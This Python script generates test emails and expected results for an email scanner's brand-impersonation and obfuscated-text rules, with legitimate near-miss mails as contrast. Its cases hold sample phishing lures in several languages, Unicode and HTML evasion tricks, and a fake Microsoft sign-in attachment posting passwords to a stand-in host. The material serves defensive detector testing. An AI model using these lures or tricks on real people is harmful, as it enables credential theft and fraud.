#!/usr/bin/env python3
"""Red-team cases for brand impersonation, free-mail and throwaway senders,
and obfuscated text (identity.brand_impersonation, .freemail_organisation,
.random_sender, .platform_sender, content.obfuscated_text), and the near misses that must stay
quiet: a brand's own newsletter, a list discussing a brand, a person at a
free-mail provider, Japanese mixed kana/Latin text, a newsletter's hidden
preheader and layout tricks.  Written apart from the corpora: own wording,
other brands, English, Japanese, Portuguese, German and Spanish.  Standard
library only; writes *.eml and expected.json into the directory given
(default cases/); tests/e2e/test_variants.py runs them.
Victim: minamikaze-denki.co.jp.  Attacker hosts are .example or fictional."""
import base64
import json
import os
import quopri
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "cases")
VICTIM = "minamikaze-denki.co.jp"
MX = "mx1." + VICTIM
TO = ("経理部 高橋 由美", "yumi.takahashi@" + VICTIM)
CASES = {}
os.makedirs(OUT, exist_ok=True)

BRAND = "identity.brand_impersonation"
FREE = "identity.freemail_organisation"
RANDOM = "identity.random_sender"
PLATFORM = "identity.platform_sender"
OBF = "content.obfuscated_text"
QUIET = [BRAND, FREE, RANDOM]


def ew(text):
    return "=?UTF-8?B?%s?=" % base64.b64encode(text.encode("utf-8")).decode()


def addr(name, a):
    if name is None:
        return "<%s>" % a
    if all(32 <= ord(c) < 127 for c in name):
        return '"%s" <%s>' % (name, a)
    return "%s <%s>" % (ew(name), a)


def part(ctype, text):
    return ("Content-Type: %s; charset=\"UTF-8\"\nContent-Transfer-Encoding: quoted-printable\n\n%s"
            % (ctype, quopri.encodestring(text.encode("utf-8")).decode()))


def mail(name, frm, subject, plain=None, html=None, extra=(), auth=None, attach=None):
    dom = frm.split("@")[1]
    h = [("Return-Path", "<%s>" % frm)]
    spf, dkim_d = auth if auth else ("none", None)
    dkim = ("dkim=pass header.d=%s" % dkim_d) if dkim_d else "dkim=none"
    h.append(("Authentication-Results", "%s;\n\tspf=%s smtp.mailfrom=%s;\n\t%s;\n\tdmarc=none header.from=%s"
              % (MX, spf, dom, dkim, dom)))
    h.append(("Received", "from mail.%s (mail.%s [203.0.113.40])\n\tby %s with ESMTPS id 4Zq8Tn0c\n\t"
              "for <%s>;\n\tMon, 10 Mar 2025 09:14:02 +0900" % (dom, dom, MX, TO[1])))
    h += [("From", addr(name, frm)), ("To", addr(*TO)), ("Subject", ew(subject)),
          ("Date", "Mon, 10 Mar 2025 09:13:58 +0900"),
          ("Message-ID", "<%s.%d@%s>" % ("v", len(CASES), dom)), ("MIME-Version", "1.0")]
    h += list(extra)
    parts = []
    if plain is not None:
        parts.append(part("text/plain", plain))
    if html is not None:
        parts.append(part("text/html", html))
    if attach:
        fn, data = attach
        ctype = "application/pdf" if isinstance(data, bytes) else "text/html"
        raw = data if isinstance(data, bytes) else data.encode("utf-8")
        parts.append("Content-Type: %s; name=\"%s\"\nContent-Disposition: attachment; "
                     "filename=\"%s\"\nContent-Transfer-Encoding: base64\n\n%s"
                     % (ctype, fn, fn, base64.encodebytes(raw).decode()))
    kind = "mixed" if attach else "alternative"
    if len(parts) == 1:
        head, body = parts[0].split("\n\n", 1)
        h += [tuple(x.split(": ", 1)) for x in head.split("\n")]
    else:
        h.append(("Content-Type", 'multipart/%s; boundary="b0"' % kind))
        body = "".join("\n--b0\n" + p for p in parts) + "\n--b0--\n"
    return "\n".join("%s: %s" % hv for hv in h) + "\n\n" + body


def titled_pdf(title, lines):
    """A one-page PDF (Helvetica, one of the standard 14 fonts, ISO 32000-1
    9.6.2.2) whose Info dictionary carries title; exact xref offsets."""
    content = "BT /F1 12 Tf 72 760 Td 16 TL\n" + "".join("(%s) Tj T*\n" % l for l in lines) + "ET"
    objs = ["<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            "/Resources << /Font << /F1 5 0 R >> >> >>",
            "<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            "<< /Title (%s) /Producer (Report Writer 4.2) >>" % title]
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b"%d 0 obj\n" % i + o.encode("latin-1") + b"\nendobj\n"
    x = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % off for off in offs)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Info 6 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, x)
    return out


def case(name, data, must=(), must_not=(), checks=(), note=""):
    CASES[name + ".eml"] = {"must": list(must), "must_not": list(must_not), "checks": list(checks),
                            "note": note}
    with open(os.path.join(OUT, name + ".eml"), "wb") as f:
        f.write(data.encode("utf-8"))


def sev(rule, at_most):
    return {"rule_at_most": rule, "severity": at_most}


# ================================================================ brands that fire

case("B01_display_name_is_the_brand",
     mail("PayPal Resolution Team", "case-review@pp-resolutions.example",
          "Action needed: confirm your recent payment",
          "Hello,\n\nWe noticed an unusual payment from your account. Please confirm it within "
          "24 hours at https://pp-resolutions.example/confirm to keep your account open.\n\n"
          "PayPal Resolution Team\n"),
     must=[BRAND], note="English, the display name is the brand plus service words")

case("B02_yamato_japanese",
     mail("ヤマト運輸 お届け予定通知", "info@kuroneko-haisou.example",
          "【ヤマト運輸】お荷物のお届けについて",
          "お客様\n\nお荷物をお届けにあがりましたが、ご不在のため持ち帰りました。\n"
          "再配達のご依頼は下記よりお手続きください。\nhttps://kuroneko-haisou.example/r\n\n"
          "ヤマト運輸株式会社\n"),
     must=[BRAND], note="Japanese delivery lure; ヤマト運輸 sends from kuronekoyamato.co.jp")

case("B03_tax_agency_japanese",
     mail("国税庁 e-Taxお知らせ", "notice@nta-etax-info.example",
          "【国税庁】未納税金のお知らせ（最終通知）",
          "あなたの所得税について未納が確認されました。\n本日中にお支払いください。\n\n国税庁\n"),
     must=[BRAND], note="Japanese government (go.jp)")

case("B04_cyrillic_in_subject",
     mail("Account Service", "verify@id-services-center.example",
          "Your Аpple ID was locked for security reasons",
          "Dear customer,\nyour account was locked. Unlock it today.\n"),
     must=[BRAND, OBF], checks=[{"path": "message.subject",
                                 "equals": "Your Apple ID was locked for security reasons"}],
     note="Cyrillic А in the subject; the subject is shown with a Latin A")

case("B05_math_letters_in_subject",
     mail("Shipment Notice", "track@parcel-status-now.example",
          "\U0001D403\U0001D407\U0001D40B \U0001D404\U0001D431\U0001D429\U0001D42B\U0001D41E"
          "\U0001D42C\U0001D42C: parcel on hold",
          "Your parcel is waiting for a customs payment of EUR 2.99.\n"),
     must=[BRAND, OBF], checks=[{"path": "message.subject", "equals": "DHL Express: parcel on hold"}],
     note="mathematical bold DHL Express")

case("B06_marks_inside_display_name",
     mail("N\u034Fe\u034Ft\u034Ff\u034Fl\u034Fi\u034Fx Billing", "billing@streaming-renew.example",
          "Your membership is on hold", "Update your payment method to keep watching.\n"),
     must=[BRAND, OBF], checks=[{"path": "message.from.0.name", "equals": "Netflix Billing"}],
     note="combining grapheme joiners after each letter")

case("B07_invisible_characters_in_body",
     mail("Mailbox Team", "no-reply@quota-alerts.example", "Storage almost full",
          "Your mail\u200Bbox is 98% full. Ve\u200Brify your acc\u200Bount now or new "
          "mess\u200Bages will bounce.\n"),
     must=[OBF], checks=[{"path": "body.text", "contains": "Verify your account now"}],
     note="zero-width spaces splitting four words")

case("B08_hidden_junk_inside_words",
     mail("Security Alert", "alert@signin-review.example", "Unusual sign-in",
          html="<html><body><p>Your Mi<span style=\"font-size:0px\">q7x</span>crosoft account had "
               "an unusual sign-in. Please ver<font style=\"display:none\">zz81</font>ify your "
               "acc<span style=\"color:#FFFFFF\">kk</span>ount today.</p></body></html>"),
     must=[OBF], checks=[{"path": "body.text", "contains": "Your Microsoft account"},
                         {"path": "body.text", "contains": "verify your account"}],
     note="font-size:0, display:none and white-on-white junk inside three words")

case("B09_logo_of_a_card_company",
     mail("Billing Center", "center@card-member-info.example", "ご利用明細の確認",
          html="<html><head><title>会員様へのお知らせ</title></head><body>"
               "<img src=\"https://card-member-info.example/l.png\" alt=\"楽天カード\">"
               "<p>ご登録情報の確認が必要です。下記よりログインしてください。</p></body></html>"),
     must=[BRAND], note="the logo at the top names 楽天カード")

case("B10_freemail_service_desk",
     mail("Customer Support Desk", "support.desk.helpline24@gmail.com", "Ticket update",
          "Your ticket has been escalated. Reply with your login to continue.\n"),
     must=[FREE], must_not=[BRAND])

case("B11_freemail_japanese_signature",
     mail("佐藤", "sato.k.1979@yahoo.co.jp", "お支払い方法の変更について",
          "いつもご利用ありがとうございます。\n下記の件、ご確認をお願いいたします。\n\n"
          "サンプル通販株式会社\nカスタマーサポート事務局\n"),
     must=[FREE], note="a person's name, a company's sign-off, free mail")

case("B12_random_sender_cheap_tld",
     mail("Winner Desk", "xk7q2m9z@4hr8kq2w9zv.top", "You have been selected",
          "Claim your prize.\n"),
     must=[RANDOM])

case("B13_banco_do_brasil_from_gmail",
     mail("[BB] Comunicado - Protocolo 88123456789", "atend.cliente.bb2025@gmail.com",
          "Seu acesso foi bloqueado",
          "Prezado cliente,\nseu dispositivo foi bloqueado. Regularize hoje.\n\nBanco do Brasil\n"),
     must=[BRAND], note="Portuguese; BB is a common word, but here it is the whole display name")

case("B14_dhl_german",
     mail("DHL Paket Benachrichtigung", "service@paket-zustellung-info.example",
          "Ihre Sendung konnte nicht zugestellt werden",
          "Bitte bestätigen Sie Ihre Adresse und zahlen Sie 1,99 EUR Zollgebühr.\n"),
     must=[BRAND])

case("B15_typosquat_domain",
     mail("Notification", "alerts@secure-paypa1-login.example", "Confirm your identity",
          "Please confirm your identity.\n"),
     must=[BRAND], note="paypa1 inside the sender's domain")

case("B16_attached_sign_in_page",
     mail("Accounts Payable", "ap@harbor-supply.example", "Remittance advice attached",
          "Please see the attached remittance.\n",
          attach=("Remittance_0310.htm",
                  "<html><head><title>Sign in to your account</title></head><body>"
                  "<img src=\"https://harbor-cdn.example/ms.png\" alt=\"Microsoft\">"
                  "<form action=\"https://collect.harbor-cdn.example/p\" method=\"post\">"
                  "<input name=\"login\"><input type=\"password\" name=\"pw\"></form></body></html>")),
     must=[BRAND], note="an HTML attachment imitating a Microsoft sign-in")

case("B17_spanish_tax_agency",
     mail("Agencia Tributaria - Notificación", "avisos@at-devoluciones.example",
          "Tiene una devolución pendiente",
          "Le informamos de que tiene un reembolso pendiente de 412,60 EUR.\n"),
     must=[BRAND])

case("B18_tag_characters_in_subject",
     mail("Security", "alerts@exchange-safety.example",
          "Your Coin\U000E0062\U000E0061base account is restricted",
          "Verify now.\n"),
     must=[BRAND, OBF], checks=[{"path": "message.subject",
                                 "equals": "Your Coinbase account is restricted"}],
     note="tag characters inside the brand name")

case("B19_pdf_title_beside_service_name",
     mail("Central de Atendimento", "avisos@central-clientes-aviso.example",
          "Aviso importante sobre sua conta",
          "Prezado cliente,\n\nSegue em anexo o comunicado sobre o bloqueio preventivo da sua conta.\n",
          attach=("Comunicado_0310.pdf",
                  titled_pdf("Bradesco - Comunicado de bloqueio preventivo",
                             ["Comunicado de bloqueio preventivo",
                              "Regularize seu cadastro em ate 24 horas."]))),
     must=[BRAND], note="Portuguese; the attached PDF's title names the bank, the display "
                        "name is service words only")

case("B20_retailer_giveaway_from_a_stranger",
     mail("Ihre Chance!", "gewinn@aktion.gartenmoebel-shop.example",
          "Ihr Aldi Einkaufsgutschein im Wert von 250€",
          "Hallo,\n\nSie wurden unter den glücklichen Gewinnern unserer Verlosung ausgewählt: "
          "ein Aldi Einkaufsgutschein im Wert von 250€. Sichern Sie sich Ihren Gutschein hier: "
          "https://aktion.gartenmoebel-shop.example/g\n"),
     must=[BRAND, "content.phishing_lure"],
     note="a retailer named only in the subject of a voucher giveaway (with its amount) "
          "sent from another company's domain")

case("B21_firebase_project_sender",
     mail("Lucky Reels", "noreply@spin-palace-7c1e2.firebaseapp.com",
          "Your welcome package is waiting",
          "Hello,\n\nYour 150 free spins are waiting. Claim your bonus today: "
          "https://reels-bonus.example/w\n", auth=("pass", "firebaseapp.com")),
     must=[PLATFORM], must_not=[RANDOM],
     note="a Firebase project's default domain (the project's generated name is the "
          "platform finding's, not a random domain's)")

case("B22_m365_trial_tenant_sender",
     mail("Payroll Team", "payroll@hrdesk2291.onmicrosoft.com", "Salary review letter",
          "Please review your salary letter before Friday: https://hr-letter.example/s\n"),
     must=[PLATFORM], note="a Microsoft 365 tenant's initial domain in From")

case("B23_coffee_chain_free_cup",
     mail("Starbucks Promo", "promo@winter-cup-deals.example",
          "Last chance: claim your free holiday cup",
          "Today only: a free holiday cup for our loyal customers. Claim it now: "
          "https://winter-cup-deals.example/c\n"),
     must=[BRAND], note="a coffee chain's name in a giveaway from a stranger's domain")

case("B24_insurer_lead_generation",
     mail("Liberty Mutual Team", "qRtvXw@offers.smartrate-quotes.example",
          "So many ways to save",
          "Bundle your home and auto insurance and save up to $900. Get your quote: "
          "https://offers.smartrate-quotes.example/q\n"),
     must=[BRAND], note="an insurer's name on lead-generation mail from another domain")

# ================================================================ near misses

case("N01_brands_own_newsletter",
     mail("PayPal", "service@mail.paypal.com", "Your March statement is ready",
          html="<html><head><title>PayPal</title></head><body>"
               "<div style=\"display:none;max-height:0;overflow:hidden\">Your statement is ready to "
               "view &#847;&zwnj;&nbsp;&#847;&zwnj;&nbsp;</div>"
               "<img src=\"https://www.paypalobjects.com/logo.png\" alt=\"PayPal\">"
               "<p>Hello Yumi, your monthly statement is available.</p></body></html>",
          auth=("pass", "paypal.com")),
     must_not=QUIET, checks=[sev(OBF, "info")], note="from the brand, DKIM its own")

case("N02_tech_newsletter_about_brands",
     mail("Gadget Weekly", "newsletter@gadgetweekly.example",
          "Apple, Amazon and PayPal: the week in devices and payments",
          html="<html><head><title>Apple, Amazon and PayPal: the week in devices and payments"
               "</title></head><body>"
               "<span style=\"display:none\">This week: new phones, new wallets</span>"
               "<img src=\"https://gadgetweekly.example/logo.png\" alt=\"Gadget Weekly\">"
               "<h1>The week in devices</h1><p>Amazon showed new readers, PayPal changed its "
               "fees and Microsoft updated Office.</p>"
               "<table><tr><td style=\"font-size:0\"><div style=\"display:inline-block;"
               "font-size:14px\">Read more</div></td></tr></table>"
               "<table><tr><td bgcolor=\"#1a73e8\"><a href=\"https://gadgetweekly.example/r\" "
               "style=\"color:#ffffff\">Subscribe</a></td></tr></table>"
               "<p>Apple and the Apple logo are trademarks of Apple Inc.</p></body></html>"),
     must_not=QUIET,
     checks=[sev(OBF, "info"), {"path": "body.text", "contains": "Subscribe"},
             {"path": "body.text", "contains": "Read more"}],
     note="names brands everywhere, hidden preheader, layout tricks")

case("N03_list_discussing_paypal",
     mail("Jane Roe", "jane.roe@fintech-dev.example", "Re: [fintech-l] PayPal API rate limits",
          "> Anyone else hitting 429s from the PayPal sandbox?\n\nYes, since Monday.\n\nJane\n\n"
          "--\nfintech-l mailing list\n",
          extra=[("List-Id", "<fintech-l.lists.fintech-dev.example>")]),
     must_not=QUIET)

case("N04_person_at_gmail",
     mail("鈴木 花子", "hanako.suzuki.1990@gmail.com", "週末の打ち合わせ",
          "高橋さん\n\n週末の件、土曜の午後でいかがでしょうか。\n\n鈴木\n"),
     must_not=QUIET + [OBF])

case("N05_japanese_kana_and_latin",
     mail("南風電機 総務部", "soumu@" + VICTIM, "【ご確認】iPhone修理とAmazonでのPC購入の件",
          "各位\n\nＰＣはAmazonで購入済みです。iPhoneの修理はAppleサポートに依頼しました。\n"
          "ＩＤ：ＡＢＣ１２３、ｅｘｃｅｌファイルを共有フォルダに置きました。\n\n総務部\n"),
     must_not=QUIET + [OBF], note="kanji, kana, full-width and Latin side by side")

case("N06_german_newsletter_hyphenation",
     mail("Stadtwerke Musterstadt", "newsletter@stadtwerke-musterstadt.example",
          "Ihr Energie-Newsletter für März",
          html="<html><body><p>Die Versicherungs&shy;unternehmen und Kunden&shy;service&shy;"
               "abteilungen informieren.</p><table><tr><td style=\"font-size:0\">"
               "<span style=\"font-size:16px\">Tarifrechner</span></td></tr></table></body></html>"),
     must_not=QUIET, checks=[sev(OBF, "info"), {"path": "body.text", "contains": "Tarifrechner"}])

case("N07_amazon_co_jp_order",
     mail("Amazon.co.jp", "auto-confirm@amazon.co.jp", "Amazon.co.jp ご注文の確認",
          "ご注文ありがとうございます。\n", auth=("pass", "amazon.co.jp")),
     must_not=QUIET)

case("N08_small_business_on_gmail",
     mail("Greenfield Garden Design", "greenfield.garden.design@gmail.com", "Your quote",
          "Hi Yumi,\n\nAttached is the quote for the courtyard.\n\nTom\n"),
     must_not=QUIET)

case("N12_retailers_own_voucher_newsletter",
     mail("Aldi Newsletter", "newsletter@aldi-sued.de",
          "Ihr Aldi Einkaufsgutschein im Wert von 10€",
          "Hallo,\n\nzum Geburtstag schenken wir Ihnen einen Einkaufsgutschein im Wert von 10€. "
          "Sichern Sie sich Ihren Gutschein in der App.\n\nAbmelden: https://aldi-sued.de/abmelden\n",
          extra=[("List-Unsubscribe", "<https://aldi-sued.de/abmelden>")],
          auth=("pass", "aldi-sued.de")),
     must_not=[BRAND], note="near miss: the retailer's own voucher mail, signed by its domain")

case("N13_m365_tenant_signs_for_own_domain",
     mail("Ines Roth", "ines.roth@harbor-supply.example", "Delivery slots next week",
          "Hi Yumi,\n\nWe can deliver on Tuesday or Thursday. Which suits you?\n\nInes\n",
          auth=("pass", "harborsupply.onmicrosoft.com")),
     must_not=[PLATFORM, RANDOM],
     note="near miss: a company on Microsoft 365 whose DKIM still signs with the tenant's "
          "initial domain; its From is its own domain")

case("N14_platform_name_inside_own_domain",
     mail("Web App Studio", "hello@studio.mywebapp-design.example", "Your quote",
          "Hi,\n\nthe quote for the new site is attached to our portal: "
          "https://studio.mywebapp-design.example/q/11\n"),
     must_not=[PLATFORM], note="near miss: a company's domain that only contains a platform's "
                               "words")

case("N15_coffee_chains_own_rewards",
     mail("Starbucks Rewards", "rewards@e.starbucks.com", "Your birthday reward is here",
          "Happy birthday! Your reward is in the app.\n",
          extra=[("List-Unsubscribe", "<https://e.starbucks.com/u>")],
          auth=("pass", "starbucks.com")),
     must_not=[BRAND], note="near miss: the chain's own reward mail, signed by its domain")

case("N16_brand_names_as_words",
     mail("Dana Holt", "dana@harbor-supply.example", "Progressive rollout and team rituals",
          "Hi Yumi,\n\nthe progressive rollout starts Monday; our weekly rituals stay.\n\nDana\n"),
     must_not=QUIET, note="near miss: 'progressive' and 'rituals' are words in a colleague's mail")

case("N09_brand_naming_another_brand",
     mail("Google Gemini", "gemini-noreply@google.com", "Gemini is now in your Workspace",
          "Try Gemini in Gmail.\n", auth=("pass", "google.com")),
     must_not=QUIET)

case("N10_surname_and_common_words",
     mail("Mark Chase", "mark.chase@harbor-supply.example", "Target dates for the Apple orchard visit",
          "Hi,\n\nThe visit is on the 14th.\n\nMark\n"),
     must_not=QUIET)

case("N11_forwarded_receipt_pdf",
     mail("Kenji Sato", "kenji.sato@harbor-supply.example", "Fwd: receipt for the projector",
          "Yumi,\n\nHere is the receipt for the projector we bought last week.\n\nKenji\n",
          attach=("receipt.pdf",
                  titled_pdf("Amazon.co.jp - Order receipt",
                             ["Order receipt", "Projector, 1 unit"]))),
     must_not=QUIET, note="a person forwards a shop's receipt: its title names the shop")

with open(os.path.join(OUT, "expected.json"), "w", encoding="utf-8") as f:
    json.dump(CASES, f, ensure_ascii=False, indent=1, sort_keys=True)
